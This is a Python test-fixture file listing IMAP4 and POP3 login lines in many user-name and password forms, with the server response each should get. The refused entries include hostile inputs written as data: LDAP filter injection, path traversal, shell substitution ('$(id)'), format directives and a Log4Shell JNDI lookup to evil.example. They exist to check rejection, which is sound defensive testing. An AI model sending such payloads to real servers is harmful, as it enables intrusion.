"""Names and passwords as people and attackers write them, through every form that carries them."""

from __future__ import annotations

from tests.mail_corpus.entry import NAME, PASSWORD, Entry, imap4, plain, pop3
from tests.support.population import DISABLED, EIGHT_BIT, LATIN_PASSWORD, NO_MAILBOX, ODD_PASSWORD, SPACES, TWINS

_FAILED = "a NO [AUTHENTICATIONFAILED]"


def _quoted(text: bytes) -> bytes:
    return b'"' + text.replace(b"\\", b"\\\\").replace(b'"', b'\\"') + b'"'


def _refused(
    name: str, typed: bytes, source: str, why: str, rule: str = "S-AUTH-3", answer: str = _FAILED, **more: object
) -> Entry:
    line = b"a AUTHENTICATE PLAIN " + plain(typed, b"for-" + name.encode()) + b"\r\n"
    return imap4(f"the name {name}", line, answer, rule, source, why, **more)


def _wrong(name: str, typed: bytes, password: bytes, answer: str = _FAILED, **more: object) -> Entry:
    line = b"a AUTHENTICATE PLAIN " + plain(typed, password) + b"\r\n"
    return imap4(
        name, line, answer, "S-AUTH-6", "RFC 5530 3", "the same words as for a wrong password", peers=False, **more
    )


def _enters(
    name: str, typed: bytes, password: bytes, source: str, why: str, seen: bytes | None = None, *, peers: bool = False
) -> list[Entry]:
    """By AUTHENTICATE, and in literals."""
    login = b"a LOGIN {%d+}\r\n%b {%d+}\r\n%b\r\n" % (len(typed), typed, len(password), password)
    reached = ((seen or typed, password),)
    return [
        imap4(
            f"{name}, by PLAIN",
            b"a AUTHENTICATE PLAIN " + plain(typed, password) + b"\r\n",
            "a OK",
            "S-MAIL-7",
            source,
            why,
            logins=reached,
            peers=peers,
        ),
        imap4(f"{name}, by literals", login, "a OK", "S-MAIL-7", source, why, logins=reached, peers=peers),
    ]


_U = b"user4@fourthcoffee.com"

ENTRIES = [
    *_enters("an ordinary name", NAME, PASSWORD, "RFC 3501 6.2.3", "legal", peers=True),
    *_enters("the name in upper case", b"USER4", PASSWORD, "RFC 4513 5.1.3", "the directory compares; the back end gets what was typed"),
    *_enters("DOMAIN\\user", b"FOURTHCOFFEE\\user4", PASSWORD, "RFC 3501 6.2.3", "as Windows writes it"),
    *_enters("DOMAIN/user", b"FOURTHCOFFEE/user4", PASSWORD, "RFC 3501 6.2.3", "as Windows writes it for IMAP4"),
    *_enters("the user principal name", _U, PASSWORD, "RFC 3501 6.2.3", "legal"),
    *_enters("full-width letters", "\uff55\uff53\uff45\uff52\uff14".encode(), PASSWORD, "RFC 4518 2.3", "the directory compares, and folds them; the account is the same for every limit"),
    *_enters("8 bits in name and password", EIGHT_BIT.name.encode(), EIGHT_BIT.password, "RFC 4616 2", "UTF-8"),
    *_enters("a password in Latin-1", LATIN_PASSWORD.name.encode(), LATIN_PASSWORD.password, "RFC 3501 4.3", "octets, of no matter which code"),
    *_enters("a password with quotes and backslashes", ODD_PASSWORD.name.encode(), ODD_PASSWORD.password, "RFC 3501 9 quoted", "escaped on the way, and never lost", peers=True),
    *_enters("a password of spaces", SPACES.name.encode(), SPACES.password, "RFC 3501 4.3", "at its ends too", peers=True),
    imap4("quotes and backslashes in a quoted string", b"a LOGIN quotes " + _quoted(ODD_PASSWORD.password) + b"\r\n", "a OK", "S-MAIL-7", "RFC 3501 9 quoted", "unescaped here, escaped anew behind", logins=((b"quotes", ODD_PASSWORD.password),)),
    imap4("DOMAIN\\user unquoted", b"a LOGIN FOURTHCOFFEE\\user4 password-4\r\n", "a OK", "S-MAIL-7", "RFC 3501 9 astring", "people type it so, and some clients send it as it is", logins=((b"FOURTHCOFFEE\\user4", PASSWORD),), peers=False),
    pop3("DOMAIN\\user in POP3", b"USER FOURTHCOFFEE\\user4\r\nPASS password-4\r\n", ("+OK", "+OK"), "S-MAIL-7", "RFC 1939 7", "legal", logins=((b"FOURTHCOFFEE\\user4", PASSWORD),), peers=False),
    pop3("8 bits in POP3", b"USER j\xc3\xbcrgen\r\nPASS " + EIGHT_BIT.password + b"\r\n", ("+OK", "+OK"), "S-MAIL-7", "RFC 6856 2", "UTF-8", logins=((EIGHT_BIT.name.encode(), EIGHT_BIT.password),), peers=False),
    _refused("*", b"*", "RFC 4515 3", "a filter that all entries fit"),
    _refused("with a filter in it", b"user4)(sAMAccountName=*", "RFC 4515 3; CVE-2005-2511", "text, and no filter"),
    _refused("with a filter's escape", rb"\2a", "RFC 4515 3", "text, and no escape"),
    _refused("with a wildcard", b"user4*", "RFC 4515 3", "text, and no pattern"),
    _refused("that is a DN", b"cn=user4,ou=Staff,dc=fourthcoffee,dc=com", "RFC 4514 2", "not a name to log on with"),
    _refused("with NUL", b"user4\x01\x00x"[:6] + b"x", "RFC 4616 2", "a control"),
    _refused("with a tab", b"user4\t", "RFC 8265 3.3", "a control"),
    _refused("with a bidirectional override", "user4\u202e".encode(), "RFC 8265 3.3", "a name that shows as another"),
    _refused("with a zero-width space", "us\u200ber4".encode(), "RFC 8265 3.3", "a name that shows as another"),
    _refused("of a path", b"../../user4", "CWE-22; RFC 3501 6.2.3", "a mailbox's folder is named after it at some back ends"),
    _refused("of 300 octets", b"u" * 300, "RFC 4513 5.1.3", "too long for anybody", "S-AUTH-1"),
    _refused("of 4 kB", b"u" * 4000, "RFC 4513 5.1.3", "too long for anybody", "S-AUTH-1"),
    _refused("of an unknown domain", b"NOWHERE\\user4", "RFC 3501 6.2.3", "no such domain", "S-AUTH-5"),
    _refused("with two domains", b"A\\B\\C\\user4", "RFC 3501 6.2.3", "no such form", "S-AUTH-5"),
    _refused("that is only a domain", b"FOURTHCOFFEE\\", "RFC 3501 6.2.3", "nobody's name", "S-AUTH-1"),
    _refused("with two @", b"user4@a@fourthcoffee.com", "RFC 5321 4.1.2", "no address", "S-AUTH-5"),
    _refused("of another host", b"user4@evil.example", "RFC 5321 4.1.2", "nobody's address", "S-AUTH-5"),
    _refused("with a master user's separator", b"user4*admin", "RFC 4616 2", "no log-on for somebody else"),
    _refused("with shell characters", b"`id`;$(id)|x", "CVE-2014-6271", "text"),
    _refused("with format directives", b"%s%n%x", "CVE-2000-0917", "text"),
    _refused("with a JNDI look-up", b"${jndi:ldap://evil.example/a}", "CVE-2021-44228", "text, also in a log"),
    _refused("of broken UTF-8", b"\xc0\xaf\xff", "RFC 3629 3", "no text", "S-AUTH-4"),
    _wrong("a disabled account with its password", DISABLED.name.encode(), DISABLED.password),
    _wrong("an account without a mailbox", NO_MAILBOX.name.encode(), NO_MAILBOX.password, "a NO [CONTACTADMIN]"),
    _wrong("an address of two accounts", b"twins@fourthcoffee.com", TWINS[0].password),
    _wrong("the service account", b"exfront", b"service-password"),
    _wrong("a password of 1,025 octets", NAME, b"p" * 1025),
    _wrong("a password with a space behind it", NAME, PASSWORD + b" "),
    _wrong("a password in another case", NAME, PASSWORD.upper()),
]  # fmt: skip
